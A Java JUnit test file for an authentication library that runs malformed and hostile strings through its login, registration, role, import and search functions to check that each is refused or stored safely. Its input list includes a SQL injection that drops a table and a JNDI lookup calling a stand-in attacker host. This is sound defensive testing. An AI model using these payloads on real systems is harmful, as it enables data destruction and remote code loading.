package dev.doorward.auth;

import static dev.doorward.auth.fixture.Node.CLIENT;
import static dev.doorward.auth.fixture.Node.PASSWORD;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.doorward.auth.account.Account;
import dev.doorward.auth.account.ImportResult;
import dev.doorward.auth.account.ImportedAccount;
import dev.doorward.auth.account.Registration;
import dev.doorward.auth.account.RegistrationResult;
import dev.doorward.auth.fixture.Node;
import dev.doorward.auth.identity.Client;
import dev.doorward.auth.login.ConfirmResult;
import dev.doorward.auth.login.LoginAttempt;
import dev.doorward.auth.login.LoginResult;
import dev.doorward.auth.session.IssuedSession;
import dev.doorward.auth.store.BothDatabases;
import dev.doorward.auth.store.TestDatabase;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import tools.jackson.databind.ObjectMapper;

/** Whatever is typed into whichever field, the answer is a refusal or a result, and what is stored is whole. */
final class BadInputTest {
    private Node node;

    @BeforeEach
    void open(TestDatabase database) {
        node = Node.on(database);
    }

    @AfterEach
    void close() {
        node.close();
    }

    /** What breaks databases, encoders and loggers, with the corpus of such strings where it is given. */
    private static List<String> texts() {
        List<String> texts = new ArrayList<>(List.of(
                "",
                " ",
                "\0",
                "a\0b",
                "\ud800",
                "\udc00a",
                "a\ud800@example.com",
                "\ufffe\uffff",
                "\r\n",
                "'; drop table doorward.auth_account; --",
                "%",
                "_",
                "\\",
                "!",
                "${jndi:ldap://evil.example/x}",
                "{s}auth_account",
                ":id",
                "?",
                "a".repeat(255),
                "\u00e4".repeat(33),
                "\ufdfa".repeat(300),
                "(".repeat(100_000),
                "x".repeat(1 << 20)));
        String directory = System.getProperty("corpora.dir", "");
        if (!directory.isEmpty() && !directory.startsWith("${")) {
            texts.addAll(naughty(Path.of(directory, "naughty_strings.jsonl")));
        }
        return texts;
    }

    private static List<String> naughty(Path file) {
        ObjectMapper json = new ObjectMapper();
        try {
            return Files.readAllLines(file, UTF_8).stream()
                    .map(line -> json.readTree(line).asString())
                    .toList();
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }

    @BothDatabases
    void the_corpus_is_there_where_it_is_named() {
        String directory = System.getProperty("corpora.dir", "");
        assumeTrue(!directory.isEmpty() && !directory.startsWith("${"), "set -Dcorpora.dir to run the corpora");
        assertTrue(texts().size() > 100);
    }

    @BothDatabases
    void no_text_as_a_login_or_password_lets_anybody_in() {
        node.registered("ada");
        List<String> before = node.rows("auth_session");
        for (String text : texts()) {
            assertEquals(
                    LoginResult.Refused.class, node.tryLogin(text, PASSWORD).getClass(), text);
            assertEquals(LoginResult.Refused.class, node.tryLogin("ada", text).getClass(), text);
            assertTrue(node.login().withRemembered(text, CLIENT) instanceof LoginResult.Refused);
            assertTrue(node.sessions()
                    .find(text, CLIENT.address(), CLIENT.userAgent())
                    .isEmpty());
            assertTrue(node.accounts().findByLogin(text).isEmpty(), text);
        }
        assertEquals(before, node.rows("auth_session"));
        assertFalse(String.join("\n", node.everything()).contains("jndi"));
    }

    @BothDatabases
    void no_text_confirms_anybody() {
        IssuedSession issued = node.loggedIn("ada");
        for (String text : texts()) {
            assertInstanceOf(ConfirmResult.Refused.class, node.login().confirm(issued.session(), text, CLIENT), text);
        }
        assertTrue(node.isIn(issued));
    }

    @BothDatabases
    void any_text_in_a_registration_is_taken_or_refused_with_reasons() {
        int born = 0;
        for (String text : texts()) {
            born += whole(new Registration(text, "n" + born + "@example.com", PASSWORD, CLIENT, Map.of()));
            born += whole(new Registration("name" + born, text, PASSWORD, CLIENT, Map.of()));
            born += whole(new Registration("name" + born, "n" + born + "@example.com", text, CLIENT, Map.of()));
            assertTrue(whole(new Registration(text, text, text, CLIENT, Map.of(text, text))) == 0, text);
        }
        assertEquals(born, node.count("auth_account"));
        assertEquals(born, node.count("auth_password"));
        assertEquals(
                born,
                node.rows("auth_event").stream()
                        .filter(row -> row.contains("=REGISTERED "))
                        .count());
    }

    private int whole(Registration registration) {
        RegistrationResult result = node.accounts().register(registration);
        if (result instanceof RegistrationResult.Registered registered) {
            Account account = registered.account();
            // In whatever spelling they were typed.
            assertEquals(
                    account,
                    node.accounts().findByLogin(registration.username()).orElseThrow());
            assertEquals(
                    account, node.accounts().findByLogin(registration.email()).orElseThrow());
            assertTrue(node.letsIn(registration.username(), registration.password()));
            return 1;
        }
        assertFalse(assertInstanceOf(RegistrationResult.Refused.class, result)
                .reasons()
                .isEmpty());
        return 0;
    }

    @BothDatabases
    void any_text_can_be_searched_for() {
        node.registered("ada");
        for (String text : texts()) {
            assertTrue(node.accounts().search(text, 1, 10).accounts().size() <= 1, text);
        }
    }

    @BothDatabases
    void any_text_as_a_role_is_a_role_or_misuse() {
        Account ada = node.registered("ada");
        Set<String> roles = new java.util.HashSet<>();
        for (String text : texts()) {
            try {
                if (node.accounts().grant(ada.id(), text, CLIENT)) {
                    roles.add(text);
                    assertEquals(
                            Set.of(text),
                            node.accounts().find(ada.id()).orElseThrow().roles());
                    assertTrue(node.accounts().revoke(ada.id(), text, CLIENT));
                }
            } catch (IllegalArgumentException misuse) {
                assertFalse(node.accounts().revoke(ada.id(), text, CLIENT), text);
            }
        }
        assertTrue(roles.stream().allMatch(role -> role.matches("[a-z][a-z0-9_.:-]{0,49}")), roles.toString());
    }

    @BothDatabases
    void any_text_in_an_import_is_taken_or_refused() {
        int born = 0;
        for (String text : texts()) {
            for (ImportedAccount imported : List.of(
                    new ImportedAccount(text, "i" + born + "@example.com", true, null, Set.of()),
                    new ImportedAccount("name" + born, text, true, null, Set.of()),
                    new ImportedAccount("name" + born, null, true, text, Set.of()))) {
                if (node.accounts().importAccount(imported) instanceof ImportResult.Imported) {
                    born++;
                }
            }
        }
        assertEquals(born, node.count("auth_account"));
        assertEquals(0, node.count("auth_password"));
    }

    @BothDatabases
    void any_text_as_a_clients_address_and_program_is_stored_harmlessly() {
        Account ada = node.registered("ada");
        for (String text : texts()) {
            Client client = new Client(text, text);
            assertInstanceOf(
                    LoginResult.LoggedIn.class,
                    node.login().withPassword(new LoginAttempt("ada", PASSWORD, true, client), null),
                    text);
            assertEquals(1, node.sessions().of(ada.id(), null).size(), text);
            node.accounts().endEverything(ada.id(), client);
        }
    }

    @BothDatabases
    void misuse_is_told_as_such_and_writes_nothing() {
        Account ada = node.registered("ada");
        List<String> before = node.everything();
        assertThrows(IllegalArgumentException.class, () -> node.accounts().grant(ada.id(), "No Role", CLIENT));
        assertThrows(IllegalArgumentException.class, () -> node.accounts().list(0, 10));
        assertThrows(
                IllegalArgumentException.class, () -> node.doorward().audit().of(ada.id(), 0));
        assertEquals(before, node.everything());
    }
}
